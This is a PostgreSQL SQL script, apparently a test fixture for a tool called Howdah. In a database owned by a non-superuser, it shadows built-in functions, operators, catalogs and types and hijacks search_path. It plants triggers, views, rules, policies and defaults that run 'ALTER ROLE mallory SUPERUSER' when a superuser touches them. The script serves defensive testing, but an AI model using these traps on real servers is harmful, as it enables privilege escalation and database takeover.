-- SPDX-FileCopyrightText: The Howdah developers
-- SPDX-License-Identifier: GPL-3.0-or-later
-- What the owner of a database, who is no superuser, can lay in the way of one who visits it. Runs as mallory, in a
-- database of his own. Who calls one of these as a superuser leaves "SHADOW ... " in the server's log, which a
-- transaction that only reads writes as well, and makes mallory a superuser where the transaction lets it. What is
-- called by design (behind a view, a trigger, a domain) says "PLANTED" instead, and tries to turn the session round for
-- the statements that follow.
SET check_function_bodies = off;
SET client_min_messages = error;

CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;
CREATE TABLE evil.log (what pg_catalog.text);

CREATE FUNCTION evil.is_visited() RETURNS boolean LANGUAGE sql AS $$
    SELECT r.rolsuper FROM pg_catalog.pg_roles r WHERE r.rolname OPERATOR(pg_catalog.=) session_user $$;

CREATE FUNCTION evil.take_over(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    BEGIN
        ALTER ROLE mallory SUPERUSER;
        INSERT INTO evil.log VALUES (what);
    EXCEPTION WHEN OTHERS THEN NULL; -- a transaction that only reads
    END;
    RETURN true;
END $$;

-- Once in a transaction for each of them: many are called for every row.
CREATE FUNCTION evil.is_news(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
DECLARE
    told pg_catalog.text := coalesce(pg_catalog.current_setting('evil.told', true), '');
BEGIN
    IF pg_catalog.strpos(told, what) OPERATOR(pg_catalog.>) 0 OR NOT evil.is_visited() THEN
        RETURN false;
    END IF;
    PERFORM pg_catalog.set_config('evil.told', pg_catalog.concat(told, what, ','), true);
    RETURN true;
END $$;

-- A name of ours was answered by mallory.
CREATE FUNCTION evil.sprung(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF evil.is_news(what) THEN
        RAISE LOG 'SHADOW % %', pg_catalog.current_database(), what;
        RAISE NOTICE 'SHADOW %', what;
        PERFORM evil.take_over(what);
    END IF;
    RETURN true;
END $$;

-- Behind what the visitor asked for by himself.
CREATE FUNCTION evil.planted(what pg_catalog.text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF evil.is_news(what) THEN
        RAISE LOG 'PLANTED % %', pg_catalog.current_database(), what;
        PERFORM pg_catalog.set_config('search_path', 'evil, public, pg_catalog', false);
        PERFORM pg_catalog.set_config('default_transaction_read_only', 'off', false);
        PERFORM evil.take_over(what);
    END IF;
    RETURN true;
END $$;

-- ---- in the schema that the path names first: everything that pg_catalog has, by the same signature

DO $$
DECLARE
    f record;
    rows_of pg_catalog.text;
BEGIN
    FOR f IN SELECT p.oid, p.proname, p.proretset OR p.prorettype = 'record'::regtype AS many,
                    pg_catalog.pg_get_function_arguments(p.oid) AS arguments,
                    pg_catalog.pg_get_function_result(p.oid) AS result,
                    (SELECT string_agg(CASE WHEN p.provariadic <> 0 AND i = p.pronargs THEN 'VARIADIC $' ELSE '$' END || i,
                                       ', ' ORDER BY i) FROM generate_series(1, p.pronargs) i) AS passed
             FROM pg_catalog.pg_proc p
             WHERE p.pronamespace = 'pg_catalog'::regnamespace AND p.prokind = 'f'
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.%I(%s) RETURNS %s LANGUAGE sql AS %L', f.proname, f.arguments, f.result,
                format('SELECT evil.sprung(%L); SELECT %spg_catalog.%I(%s)', 'function ' || f.oid::regprocedure,
                       CASE WHEN f.many THEN '* FROM ' ELSE '' END, f.proname, f.passed));
        EXCEPTION WHEN OTHERS THEN NULL; -- what only PostgreSQL itself may declare
        END;
    END LOOP;
END $$;

DO $$
DECLARE
    o record;
BEGIN
    FOR o IN SELECT p.oprname, p.oprcode, p.oprcode::oid AS code, p.oprleft::regtype AS l, p.oprright::regtype AS r,
                    row_number() OVER () AS number
             FROM pg_catalog.pg_operator p WHERE p.oprnamespace = 'pg_catalog'::regnamespace AND p.oprcode <> 0
    LOOP
        BEGIN
            EXECUTE format('CREATE FUNCTION evil.operator_%s(%s) RETURNS %s LANGUAGE sql AS %L', o.number,
                concat_ws(', ', CASE WHEN o.l <> 0 THEN o.l END, o.r), pg_catalog.pg_get_function_result(o.code),
                format('SELECT evil.sprung(%L); SELECT %s OPERATOR(pg_catalog.%s) %s',
                    format('operator %s (%s, %s)', o.oprname, CASE WHEN o.l <> 0 THEN o.l END, o.r),
                    CASE WHEN o.l <> 0 THEN '$1' ELSE '' END, o.oprname, CASE WHEN o.l <> 0 THEN '$2' ELSE '$1' END));
            EXECUTE format('CREATE OPERATOR evil.%s (%s rightarg = %s, function = evil.operator_%s)', o.oprname,
                CASE WHEN o.l <> 0 THEN format('leftarg = %s,', o.l) ELSE '' END, o.r, o.number);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $$;

-- What takes anything, which only aggregates and C can declare as it is.
CREATE FUNCTION evil.count_next(bigint) RETURNS bigint LANGUAGE sql AS
    $$ SELECT evil.sprung('function count(*)'); SELECT $1 OPERATOR(pg_catalog.+) 1 $$;
CREATE AGGREGATE evil.count(*) (sfunc = evil.count_next, stype = bigint, initcond = '0');
CREATE FUNCTION evil.next(anyarray, anynonarray) RETURNS anyarray LANGUAGE sql AS
    $$ SELECT evil.sprung('an aggregate'); SELECT pg_catalog.array_append($1, $2) $$;
CREATE AGGREGATE evil.array_agg(anynonarray) (sfunc = evil.next, stype = anyarray, initcond = '{}');
CREATE FUNCTION evil.next_of_any(anyarray, anyelement) RETURNS anyarray LANGUAGE sql AS
    $$ SELECT evil.sprung('an aggregate'); SELECT pg_catalog.array_append($1, $2) $$;
CREATE FUNCTION evil.json_of(anyarray) RETURNS pg_catalog.json LANGUAGE sql AS
    $$ SELECT evil.sprung('function json_agg'); SELECT pg_catalog.to_json($1) $$;
CREATE AGGREGATE evil.json_agg(anyelement)
    (sfunc = evil.next_of_any, stype = anyarray, initcond = '{}', finalfunc = evil.json_of);
CREATE FUNCTION evil.string_next(pg_catalog.text, pg_catalog.text, pg_catalog.text) RETURNS pg_catalog.text
    LANGUAGE sql AS $$ SELECT evil.sprung('function string_agg');
                       SELECT pg_catalog.concat($1, CASE WHEN $1 IS NOT NULL THEN $3 END, $2) $$;
CREATE AGGREGATE evil.string_agg(pg_catalog.text, pg_catalog.text) (sfunc = evil.string_next, stype = pg_catalog.text);
CREATE FUNCTION evil.least_next(anyelement, anyelement) RETURNS anyelement LANGUAGE sql AS
    $$ SELECT evil.sprung('function min'); SELECT least($1, $2) $$;
CREATE FUNCTION evil.greatest_next(anyelement, anyelement) RETURNS anyelement LANGUAGE sql AS
    $$ SELECT evil.sprung('function max'); SELECT greatest($1, $2) $$;
DO $$
DECLARE
    t regtype;
BEGIN
    FOREACH t IN ARRAY '{int4,int8,oid,text,numeric,timestamptz,float8,date}'::regtype[] LOOP
        EXECUTE format('CREATE AGGREGATE evil.min(pg_catalog.%I) (sfunc = evil.least_next, stype = pg_catalog.%1$I)',
            (SELECT typname FROM pg_catalog.pg_type WHERE oid = t));
        EXECUTE format('CREATE AGGREGATE evil.max(pg_catalog.%I) (sfunc = evil.greatest_next, stype = pg_catalog.%1$I)',
            (SELECT typname FROM pg_catalog.pg_type WHERE oid = t));
    END LOOP;
END $$;
CREATE FUNCTION evil.sum_next(pg_catalog.numeric, pg_catalog.numeric) RETURNS pg_catalog.numeric LANGUAGE sql AS
    $$ SELECT evil.sprung('function sum'); SELECT coalesce($1, 0) OPERATOR(pg_catalog.+) coalesce($2, 0) $$;
CREATE AGGREGATE evil.sum(pg_catalog.numeric) (sfunc = evil.sum_next, stype = pg_catalog.numeric);
CREATE FUNCTION evil.sum_next(pg_catalog.numeric, bigint) RETURNS pg_catalog.numeric LANGUAGE sql AS
    $$ SELECT evil.sprung('function sum'); SELECT coalesce($1, 0) OPERATOR(pg_catalog.+) coalesce($2, 0)::numeric $$;
CREATE AGGREGATE evil.sum(bigint) (sfunc = evil.sum_next, stype = pg_catalog.numeric);
CREATE FUNCTION evil.both(boolean, boolean) RETURNS boolean LANGUAGE sql AS
    $$ SELECT evil.sprung('function bool_and'); SELECT $1 AND $2 $$;
CREATE AGGREGATE evil.bool_and(boolean) (sfunc = evil.both, stype = boolean);
CREATE FUNCTION evil.either(boolean, boolean) RETURNS boolean LANGUAGE sql AS
    $$ SELECT evil.sprung('function bool_or'); SELECT $1 OR $2 $$;
CREATE AGGREGATE evil.bool_or(boolean) (sfunc = evil.either, stype = boolean);
CREATE FUNCTION evil.format(pg_catalog.text, VARIADIC pg_catalog.text[]) RETURNS pg_catalog.text LANGUAGE sql AS
    $$ SELECT evil.sprung('function format'); SELECT pg_catalog.format($1, VARIADIC $2) $$;
CREATE FUNCTION evil.concat_ws(pg_catalog.text, VARIADIC pg_catalog.text[]) RETURNS pg_catalog.text LANGUAGE sql AS
    $$ SELECT evil.sprung('function concat_ws'); SELECT pg_catalog.concat_ws($1, VARIADIC $2) $$;
CREATE FUNCTION evil.concat(VARIADIC pg_catalog.text[]) RETURNS pg_catalog.text LANGUAGE sql AS
    $$ SELECT evil.sprung('function concat'); SELECT pg_catalog.concat(VARIADIC $1) $$;

-- The catalogs, and the types that casts name.
DO $$
DECLARE
    c record;
BEGIN
    FOR c IN SELECT relname FROM pg_catalog.pg_class
             WHERE relnamespace = 'pg_catalog'::regnamespace AND relkind IN ('r', 'v') LOOP
        BEGIN
            EXECUTE format('CREATE VIEW evil.%I AS SELECT * FROM pg_catalog.%1$I WHERE (SELECT evil.sprung(%L))',
                c.relname, 'relation ' || c.relname);
        EXCEPTION WHEN OTHERS THEN NULL; -- two have columns of no type
        END;
    END LOOP;
    FOR c IN SELECT typname FROM pg_catalog.pg_type
             WHERE typnamespace = 'pg_catalog'::regnamespace AND typtype = 'b' AND typcategory <> 'A' LOOP
        BEGIN
            EXECUTE format('CREATE DOMAIN evil.%I AS pg_catalog.%1$I CHECK (evil.sprung(%L))', c.typname,
                'type ' || c.typname);
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
END $$;

-- ---- in public, which is searched after pg_catalog: types that fit better than PostgreSQL's own

DO $$
DECLARE
    f record;
BEGIN
    FOR f IN SELECT * FROM (VALUES
        ('starts_with', 'name, pg_catalog.text', 'boolean', '$1::pg_catalog.text, $2'),
        ('format', 'pg_catalog.text, name', 'pg_catalog.text', '$1, $2'),
        ('format', 'pg_catalog.text, name, name', 'pg_catalog.text', '$1, $2, $3'),
        ('format', 'pg_catalog.text, name, pg_catalog.text', 'pg_catalog.text', '$1, $2, $3'),
        ('quote_ident', 'name', 'pg_catalog.text', '$1::pg_catalog.text'),
        ('quote_literal', 'name', 'pg_catalog.text', '$1::pg_catalog.text'),
        ('lower', 'name', 'pg_catalog.text', '$1::pg_catalog.text'),
        ('upper', 'name', 'pg_catalog.text', '$1::pg_catalog.text'),
        ('length', 'name', 'int', '$1::pg_catalog.text'),
        ('to_regclass', 'name', 'regclass', '$1::pg_catalog.text'),
        ('to_json', 'name', 'json', '$1'),
        ('to_jsonb', 'name', 'jsonb', '$1'),
        ('concat_ws', 'pg_catalog.text, pg_catalog.text, pg_catalog.text', 'pg_catalog.text', '$1, $2, $3'),
        ('concat', 'pg_catalog.text, pg_catalog.text', 'pg_catalog.text', '$1, $2'),
        ('pg_get_userbyid', 'regrole', 'name', '$1'),
        ('pg_get_constraintdef', 'regclass', 'pg_catalog.text', '$1'),
        ('pg_relation_size', 'oid', 'bigint', '$1::regclass'),
        ('pg_total_relation_size', 'oid', 'bigint', '$1::regclass'),
        ('array_to_string', 'name[], pg_catalog.text', 'pg_catalog.text', '$1, $2'),
        ('unnest', 'name[]', 'SETOF name', '$1'),
        ('unnest', 'oid[]', 'SETOF oid', '$1'),
        ('unnest', 'int2[]', 'SETOF int2', '$1'),
        ('unnest', 'pg_catalog.text[]', 'SETOF pg_catalog.text', '$1'),
        ('json_array_elements_text', 'pg_catalog.text', 'SETOF pg_catalog.text', '$1::pg_catalog.json'),
        ('md5', 'name', 'pg_catalog.text', '$1::pg_catalog.text'),
        ('pg_advisory_xact_lock', 'int', 'void', '$1::bigint'),
        ('pg_try_advisory_lock', 'int', 'boolean', '$1::bigint'),
        ('to_char', 'date, pg_catalog.text', 'pg_catalog.text', '$1, $2'),
        ('date_trunc', 'pg_catalog.text, date', 'timestamptz', '$1, $2'),
        ('sha256', 'pg_catalog.text', 'bytea', 'pg_catalog.convert_to($1, ''UTF8'')')
    ) AS fits (name, arguments, result, passed) LOOP
        EXECUTE format('CREATE FUNCTION public.%I(%s) RETURNS %s LANGUAGE sql AS %L', f.name, f.arguments, f.result,
            format('SELECT evil.sprung(%L); SELECT pg_catalog.%I(%s)',
                format('function public.%s(%s)', f.name, f.arguments), f.name, f.passed));
    END LOOP;
    FOR f IN SELECT op, l, r, row_number() OVER () AS number
             FROM unnest('{=,<>,<,>,~,!~,~~,||}'::pg_catalog.text[]) op
             CROSS JOIN (VALUES ('name', 'name'), ('name', 'pg_catalog.text'), ('name', 'pg_catalog.varchar'),
                                ('pg_catalog."char"', 'pg_catalog.text'), ('regclass', 'regclass'), ('oid', 'int'),
                                ('oid', 'bigint'), ('oid', 'regclass'), ('regclass', 'oid'), ('bigint', 'oid'),
                                ('pg_catalog.text', 'name'), ('pg_catalog.text', 'int'), ('int', 'pg_catalog.text'),
                                ('regtype', 'oid'), ('numeric', 'int'), ('numeric', 'bigint'),
                                ('pg_catalog.text', 'bigint'), ('varchar', 'varchar')) AS fits (l, r) LOOP
        EXECUTE format('CREATE FUNCTION public.operator_%s(%s, %s) RETURNS %s LANGUAGE sql AS %L', f.number, f.l, f.r,
            CASE WHEN f.op = '||' THEN 'pg_catalog.text' ELSE 'boolean' END,
            format('SELECT evil.sprung(%L); SELECT $1::pg_catalog.text OPERATOR(pg_catalog.%s) $2::pg_catalog.text',
                format('operator public.%s (%s, %s)', f.op, f.l, f.r), f.op));
        EXECUTE format('CREATE OPERATOR public.%s (leftarg = %s, rightarg = %s, function = public.operator_%s)', f.op,
            f.l, f.r, f.number);
    END LOOP;
END $$;

-- ---- data

CREATE TYPE public.mood AS ENUM ('sad', 'happy');
CREATE TYPE public.coin AS (cents int);
-- A cast is found by its types, whatever the path; what a value looks like is said by its type's output function.
DO $$
DECLARE
    source pg_catalog.text;
BEGIN
    FOREACH source IN ARRAY '{mood,coin,"coin[]"}'::pg_catalog.text[] LOOP
        EXECUTE pg_catalog.format('CREATE FUNCTION evil.worded(public.%s) RETURNS pg_catalog.text LANGUAGE sql AS %L', source,
            pg_catalog.format('SELECT evil.sprung(%L); SELECT ''other''::pg_catalog.text', pg_catalog.format('cast of %s', source)));
        EXECUTE pg_catalog.format('CREATE CAST (public.%s AS pg_catalog.text) WITH FUNCTION evil.worded(public.%1$s) AS ASSIGNMENT',
            source);
    END LOOP;
END $$;
CREATE TABLE public.accounts (
    id bigint PRIMARY KEY,
    name varchar(40) NOT NULL,
    email pg_catalog.text UNIQUE,
    mood public.mood,
    balance numeric(12, 2) NOT NULL DEFAULT 0,
    made timestamp with time zone NOT NULL DEFAULT '2026-01-01 00:00+00',
    tags pg_catalog.text[],
    facts pg_catalog.jsonb,
    coin public.coin,
    coins public.coin[],
    moods public.mood[]
);
INSERT INTO public.accounts (id, name, email, mood, balance, coin, coins, moods)
SELECT i, pg_catalog.concat('account ', i), pg_catalog.concat(i, '@example.org'),
       CASE WHEN i OPERATOR(pg_catalog.>) 10 THEN 'sad'::public.mood ELSE 'happy' END, i,
       '(1)'::public.coin, '{(1)}'::public.coin[], '{sad,happy}'::public.mood[]
FROM pg_catalog.generate_series(1, 40) i;
CREATE TABLE public.orders (
    id bigint PRIMARY KEY,
    account bigint NOT NULL REFERENCES public.accounts (id) ON DELETE CASCADE,
    total numeric(12, 2) NOT NULL CHECK (total OPERATOR(pg_catalog.>=) 0)
);
INSERT INTO public.orders SELECT i, i, i FROM pg_catalog.generate_series(1, 20) i;

-- What runs by design for whoever touches it.
CREATE DOMAIN public.checked AS pg_catalog.text CHECK (evil.planted('domain'));
CREATE VIEW public.balances AS SELECT id, balance FROM public.accounts WHERE (SELECT evil.planted('view'));
CREATE FUNCTION evil.turn() RETURNS boolean LANGUAGE sql AS
    $$ SELECT pg_catalog.set_config('search_path', 'evil, public, pg_catalog', false) IS NOT NULL $$;
CREATE VIEW public.turning AS SELECT id, balance FROM public.accounts WHERE (SELECT evil.turn());
CREATE TABLE public.trapped (
    id int PRIMARY KEY,
    note public.checked,
    stamp boolean DEFAULT evil.planted('default')
);
CREATE FUNCTION evil.on_change() RETURNS trigger LANGUAGE plpgsql AS
    $$ BEGIN PERFORM evil.planted('trigger'); RETURN NEW; END $$;
CREATE TRIGGER changed BEFORE INSERT OR UPDATE ON public.trapped FOR EACH ROW EXECUTE FUNCTION evil.on_change();
CREATE RULE looked AS ON DELETE TO public.trapped DO ALSO SELECT evil.planted('rule');
ALTER TABLE public.trapped ENABLE ROW LEVEL SECURITY;
CREATE POLICY seen ON public.trapped USING (evil.planted('policy'));

DO $$ BEGIN
    EXECUTE format('ALTER DATABASE %I SET search_path = evil, public, pg_catalog', current_database());
END $$;
